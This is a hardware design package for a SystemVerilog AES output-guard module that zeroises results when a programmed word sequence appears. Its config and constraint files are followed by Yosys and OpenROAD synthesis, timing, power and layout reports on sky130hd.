## config.mk

```make
export PLATFORM = sky130hd
export DESIGN_NAME = aes_out_guard
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/aes_out_guard.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CORE_MARGIN = 10
export CORE_UTILIZATION = 53
export DETAILED_ROUTE_END_ITERATION = 6
export PLACE_DENSITY = 0.74
export SKIP_LAST_GASP = 1
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```

## constraint.sdc

```tcl
create_clock -name clk -period 62.4 [get_ports clk]
set_input_delay 6.24 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 6.24 -clock clk [all_outputs]
set_load 0.05 [all_outputs]
```

## src/rtl/aes_out_guard.sv

```systemverilog
// rtl/aes_out_guard.sv - watches AES results for a programmed word sequence and zeroises output on detection
module aes_out_guard #(
  parameter int WIDTH = 128,
  parameter int DEPTH = 4,
  parameter int CNT_W = 8,
  localparam int IDX_W = (DEPTH > 1) ? $clog2(DEPTH) : 1,
  localparam int LEN_W = $clog2(DEPTH) + 1
) (
  input  logic             clk,
  input  logic             rst,
  input  logic             cfg_we,
  input  logic [IDX_W-1:0] cfg_idx,
  input  logic [WIDTH-1:0] cfg_data,
  input  logic [LEN_W-1:0] cfg_len,
  input  logic             arm,
  input  logic             clr,
  input  logic             in_valid,
  input  logic [WIDTH-1:0] in_data,
  output logic             out_valid,
  output logic [WIDTH-1:0] out_data,
  output logic             alarm,
  output logic [CNT_W-1:0] match_cnt,
  output logic             busy
);

  typedef enum logic [1:0] {
    IDLE  = 2'd0,
    ARMED = 2'd1,
    ALARM = 2'd2
  } state_t;

  state_t           state_q, state_d;
  logic [IDX_W-1:0] p_q, p_d;
  logic [IDX_W-1:0] last_q, last_d, last_arm;
  logic [WIDTH-1:0] pattern_q [DEPTH];
  logic [CNT_W-1:0] cnt_q;
  logic             out_valid_q;
  logic [WIDTH-1:0] out_data_q;
  logic [31:0]      len_req;
  logic             tracking, hit, hit_first, complete;

  // Tracking runs on every valid beat once armed; ALARM keeps tracking too.
  assign tracking  = (state_q != IDLE) && in_valid;
  assign hit       = (in_data == pattern_q[p_q]);
  assign hit_first = (in_data == pattern_q[0]);
  assign complete  = tracking && hit && (p_q == last_q);

  // Clamp the requested length into 1..DEPTH and keep it as the index of the last word.
  always_comb begin
    len_req = 32'(cfg_len);
    if (len_req == 32'd0) begin
      len_req = 32'd1;
    end else if (len_req > 32'(DEPTH)) begin
      len_req = 32'(DEPTH);
    end
    last_arm = IDX_W'(len_req - 32'd1);
  end

  // Next-state logic: pointer advance / restart, arm, completion, clr overriding everything.
  always_comb begin
    state_d = state_q;
    p_d     = p_q;
    last_d  = last_q;
    if (tracking) begin
      if (hit) begin
        p_d = (p_q == last_q) ? '0 : p_q + 1'b1;
      end else begin
        p_d = hit_first ? IDX_W'(1) : '0;
      end
    end
    case (state_q)
      IDLE: begin
        if (arm) begin
          state_d = ARMED;
          p_d     = '0;
          last_d  = last_arm;
        end
      end
      ARMED: begin
        if (complete) begin
          state_d = ALARM;
        end
      end
      ALARM: begin
      end
      default: begin
        state_d = IDLE;
        p_d     = '0;
      end
    endcase
    if (clr) begin
      state_d = IDLE;
      p_d     = '0;
    end
  end

  // FSM state, match pointer and latched sequence length.
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      state_q <= IDLE;
      p_q     <= '0;
      last_q  <= '0;
    end else begin
      state_q <= state_d;
      p_q     <= p_d;
      last_q  <= last_d;
    end
  end

  // Pattern words are only writable while idle so a live sequence cannot be altered.
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      for (int i = 0; i < DEPTH; i++) begin
        pattern_q[i] <= '0;
      end
    end else if (cfg_we && (state_q == IDLE)) begin
      pattern_q[cfg_idx] <= cfg_data;
    end
  end

  // Saturating completion counter; deliberately survives clr.
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      cnt_q <= '0;
    end else if (complete && (cnt_q != {CNT_W{1'b1}})) begin
      cnt_q <= cnt_q + 1'b1;
    end
  end

  // Output register: pass-through with zeroisation while in ALARM and on the completing beat.
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      out_valid_q <= 1'b0;
      out_data_q  <= '0;
    end else begin
      out_valid_q <= in_valid;
      if (in_valid) begin
        out_data_q <= ((state_q == ALARM) || complete) ? '0 : in_data;
      end
    end
  end

  assign out_valid = out_valid_q;
  assign out_data  = out_data_q;
  assign alarm     = (state_q == ALARM);
  assign match_cnt = cnt_q;
  assign busy      = (state_q != IDLE);

endmodule

```

# After elaboration in Yosys (flattened, before gate mapping)

Index checks and enable logic that the tools add are counted.
Widths: inputs -> output; s select.

Bitwise logic cells: 2
$add $sub $neg: 3
Multiplexer cells: 20
Equality and inequality tests: 9
Magnitude comparators: 4
Reductions and logical operators: 13

Operator list:

| cell                | count |
|---|---|
| $bwmux 512          | 1 |
| $mux 128            | 4 |
| $bmux 128 s2        | 1 |
| $demux 128 s2       | 1 |
| $eq 128x128->1      | 2 |
| $mux 2              | 10 |
| $add 8x1->8 const B | 1 |
| $ne 8x8->1 const B  | 1 |
| $ge 3x3->1 const B  | 2 |
| $logic_and 1x1->1   | 6 |
| $ne 3x3->1 const B  | 2 |
| $not 2->3           | 2 |
| $pmux 2 s3          | 1 |
| $pmux 2 s2          | 1 |
| $gt 3x3->1 const B  | 1 |
| $logic_not 3->1     | 1 |
| $lt 3x1->1 const B  | 1 |
| $reduce_and 3->1    | 1 |
| $add 2x1->2 const B | 1 |
| $eq 2x1->1 const B  | 1 |
| $eq 2x2->1          | 1 |
| $eq 2x2->1 const B  | 1 |
| $logic_not 2->1     | 1 |
| $ne 2x2->1 const B  | 1 |
| other kinds (6)     | 6 |

Output and inout bits: 139
Bits in registers: 655
Logic and storage cells: 61
Input bits: 267

# Logic depth before layout (Yosys ltp)

Depth after elaboration: 10
Gate-level depth with buffers: 13

# Worst setup path after synthesis

Ideal clock, no wire load.

Kind: input to register
Start: input cfg_we
End: register pattern_q[387] (netlist bit)
Slack: 54.458 ns
Buffers on the path: 3
Setup time: 0.125 ns
Data arrival time: 7.817 ns
Stages: 6
Data required time: 62.275 ns
Cells stage by stage: nand2_1 nor3_1 clkbuf_1 clkbuf_1 clkbuf_1 mux2_2

Cells in the longest elaborated chain, start to end: 1

Ends and longest elaborated chain:

| item                          | line | source |
|---|---|---|
| start, declared               | 11   | `input logic cfg_we,` |
| $logic_and 1x1->1             | 116  | `end else if (cfg_we && (state_q == IDLE)) begin` |
| end signal, assigned by index | 117  | `pattern_q[cfg_idx] <= cfg_data;` |
| end, declared                 | 35   | `logic [WIDTH-1:0] pattern_q [DEPTH];` |

Every way passes these cells.
A chain may end at the register's enable or synchronous reset.

# Worst setup path after layout

Start: input in_data[3]
End: register out_data_q[14] (netlist: out_data[14])

Cells in the longest elaborated chain, start to end: 5

Ends and longest elaborated chain:

| item                           | line | source |
|---|---|---|
| start, declared                | 18   | `input logic [WIDTH-1:0] in_data,` |
| $eq 128x128->1                 | 44   | `assign hit = (in_data == pattern_q[p_q]);` |
| $logic_and 1x1->1 (2 in a row) | 46   | `assign complete = tracking && hit && (p_q == last_q);` |
| $logic_or 1x1->1               | 138  | `out_data_q <= ((state_q == ALARM) \|\| complete) ? '0 : in_data;` |
| $mux 128                       | 138  |  |
| end signal, assigned           | 138  |  |
| end, declared                  | 38   | `logic [WIDTH-1:0] out_data_q;` |

Every way passes these cells.

==> impl_metrics.csv <==
group,metric,value,unit
final_layout,syn_to_final_growth,16.4,%
cts,post_cts_resized,0,
placement,port_buffers,405,
cts,cts.sink_count,655,
synth,yosys_warnings,0,
pwr,power_density,47.9,nW/um^2
cts,clock_path_buffers,3,
min_path,min_to,"out_data[83]",
cts,clockRootBuffer,"clkbuf_16",
detailed_routing,routedWlPerCell,28.9,um
placement,gp_congestion,0.982,
timing,finalHoldViolations,0,
setup_path,cp_common_cell,"nand4_1",
cts,post_cts_buffers,0,
grt,grt_pass1_vias,20900,
setup_path,startpoint_type,"primary input",
timing,fmax,101,MHz
grt,antenna_found_initial,33,
cts,cts_buffers,70,
synth,yosysUniqueCellTypes,40,
setup_path,cp.required,62.84,ns
detailed_routing,via_per_inst,6.03,
final_layout,drive_above_1_share,46.2,%
setup_path,crit_arrival,10.31,ns
detailed_routing,via_count,19900,
pwr,peakVddDrop,22.4,uV
final_layout,final_cells,3302,
cts,htree_levels,3,
placement,dp_hpwl,69.0,mm
floorplanning,die_w,260,um
floorplanning,core,56600,sq um
detailed_routing,first_iter_violations,1757,
synth,synth_area_leader_cell,"dfrtp_1",
setup_path,worstPathCellList,"buf_2 -> xnor2_1 -> nand4_1 -> nor4_1 -> nand4_1 -> nor2_1 -> a211o_4 -> buf_4 -> o2bb2ai_1",
timing,finalCritPeriodShare,15.8,%
synth,syn-num-nets,2376,
floorplanning,die_y,260,um
synth,synthArstFlopShare,100,%
floorplanning,io_pins,406,
setup_path,timing.rr.end,"out_data[14]",
timing,drv_slew,0,
timing,clock_skew,0.0318,ns
setup_path,r2r-start,"p_q[0]",
detailed_routing,wl,95.4,mm
cts,clk_latency,0.62,ns
min_path,hold_path_depth,1,
setup_path,endpoint_kind,"flip-flop",
floorplanning,fp-row-count,87,
final_layout,finalNetCount,2756,
cts,cts_tree,"done",
synth,synth_ff_type,"dfrtp_1",
floorplanning,start_util,53.8,%
timing,finalCriticalPeriod,9.87,ns
setup_path,path_delay_family,"simple AND/OR/NAND/NOR gates",
setup_path,path_buf_inv,2,
synth,synth-edff-count,0,
placement,dp.cells,3167,
timing,rsz0062_at_grt,"no",
grt,grt_pass1_wl,140,mm
flow_run,cap_violations,0,
setup_path,max_stage_delay,0.81,ns
synth,ys_seq_area_share,53.8,%
detailed_routing,first_pass_iters,5,
synth,ys_ff_latch,655,
timing,setup_viol,0,
grt,track_usage,28.1,%
min_path,holdCritStartpoint,"out_data[83]",
min_path,hp-class,"flip-flop to flip-flop",
setup_path,slowest_stage,"buf_4",
pwr,leakagePower,15.4,nW
detailed_routing,drtAntennaViolNets,0,
synth,netlist_area,30400,sq um
timing,worst_pin_slew,1.18,ns
setup_path,path_max_fanout,65,
timing,worst_slew_margin_rel,21.2,%
floorplanning,dieArea,67400,sq um
synth,syn-instance-count,2103,
grt,grt_max_degree,138,
cts,cts.hold.buffers_added,0,
final_layout,nFillCells,4250,
setup_path,reg2reg_depth,10,
synth,avgSynthCellArea,14.5,sq um
synth,synth_top_area_share,53.8,%
detailed_routing,drcViolationCount,0,
grt,grt-ovfl-total,0,
synth,ys_top_cells_by_area,"dfrtp_1, mux2_2, mux4_2",
cts,clkTransAtPathRegs,0.06,ns
setup_path,r2r_setup_slack,55.93,ns
setup_path,path_class,"primary input to flip-flop",
outcome,status,"finished clean",
timing,setup_tns,0,ns
stage by stage:
| step | hold slack (ns) | area, sq um | worst slack (ns) | utilization (%) | total power [mW] |
|---|---|---|---|---|---|
| floorplan | 0.474 | 30400 | 37.81 | - | 1.08 |
| global placement | 0.463 | 33100 | 52.22 | 58.5 | 1.24 |
| detailed placement | 0.468 | 33100 | 52.09 | 58.5 | 1.27 |
| CTS | 0.485 | 35400 | 52.71 | 62.5 | 1.70 |
| global route | 0.493 | 35400 | 52.48 | 62.6 | 1.76 |
| finish | 0.479 | 35400 | 52.53 | 62.6 | 1.70 |
sequential cells by signal, summed over array words and instances (netlist names):
| register | flops |
|---|---|
| state_q | 2 |
| out_valid | 1 |
| out_data | 128 |
| p_q | 2 |
| match_cnt | 8 |
| pattern_q | 512 |
| last_q | 2 |
synthesized netlist by cell type (2+ instances only):
library cell,number
a2111oi_0,2
a21oi_1,4
a221oi_1,7
a22o_1,2
a31oi_1,2
and3_1,4
and4_1,2
buf_1,9
buf_2,15
buf_4,12
buf_6,5
clkbuf_1,76
dfrtp_1,655
ha_1,6
inv_1,144
mux2_1,2
mux2_2,503
mux2i_1,2
mux4_2,128
nand2_1,17
nand2b_1,5
nand3_1,3
nand4_1,59
nor2_1,8
nor2b_1,3
nor3_1,3
nor4_1,26
o21ai_0,11
o22ai_1,8
o2bb2ai_1,130
o41ai_1,2
xnor2_1,183
xor2_1,58
area by class of cell:
| class | count | area [sq um] | share of cell area (%) |
|---|---|---|---|
| antenna | 14 | 35.0 | 0.0989 |
| sequential | 655 | 16400 | 46.3 |
| tap | 756 | 946 | 2.67 |
| clock inverter | 18 | 239 | 0.674 |
| timing repair buffer | 425 | 2210 | 6.25 |
| inverter | 144 | 551 | 1.55 |
| clock buffer | 103 | 2050 | 5.78 |
| multi-input combinational | 1187 | 13000 | 36.7 |
where the power goes:
group	total (mW)	leakage [nW]	internal, mW	switching [mW]
combinational	0.556	6.44	0.268	0.289
clock	0.419	1.12	0.248	0.171
sequential	0.722	7.85	0.609	0.113
total	1.70	15.4	1.12	0.573
worst register-to-register path, cell delays in order, from the launching register on:
cell and delay, ns:
dfrtp_4 1.04, buf_12 0.69, mux4_2 0.72, xnor2_1 0.62, nand4_1 0.29, nor4_1 0.25
nand4_1 0.20, nor2_1 0.66, a211o_4 0.71, buf_4 0.87, o2bb2ai_1 0.25
cell families (layout without fill, tap and decap cells):
kind of cell	Yosys count	count (layout)	synth area share, %
compound gates	172	172	4.69
xor+xnor	241	241	6.93
fa+ha+maj	6	6	0.247
buf+inv	261	690	3.55
flops	655	655	53.8
mux	635	635	28.2
other cells	0	14	0
simple gates	133	133	2.54
routing by layer:
metal	part of all wire, %	global-route usage, %	up-vias	wire length (um)
li1	-	-	8418	-
met1	41	37.2	10500	38700
met2	46	42.8	796	43700
met3	9.2	8.41	185	8780
met4	4.1	11.7	34	3920
met5	0.22	0	-	208
cell usage in the layout (no fill, tap or decap), drive strengths merged, types with 2 or more instances in the layout:
cell type  count
diode         14
nor4          26
a21oi          4
o21ai         11
clkinvlp       3
a22o           2
mux2         505
mux2i          2
and4           2
xnor2        183
mux4         128
nand4         59
and3           4
o41ai          2
o2bb2ai      130
o22ai          8
nand2         17
a2111oi        2
a221oi         7
nor2b          3
nand2b         5
nor2           8
clkbuf       103
buf          425
dfrtp        655
xor2          58
a31oi          2
nand3          3
bufinv         5
inv          147
nor3           3
nor3b          2
ha             6
clkinv         7
worst max path at each step:
stage / start / end / slack (ns) / depth (start not counted)
final: in_data[3] / out_data[14] / 52.53 / 9
after CTS: in_data[114] / out_data[14] / 52.71 / 9
after global placement: in_data[114] / out_data[33] / 52.22 / 9
after floorplan: rst / last_q[0] / 37.81 / 1
after global routing: in_data[114] / out_data[50] / 52.48 / 9
after detailed placement: in_data[114] / out_data[51] / 52.09 / 9
No activity file was read; power rests on OpenSTA's default activity.
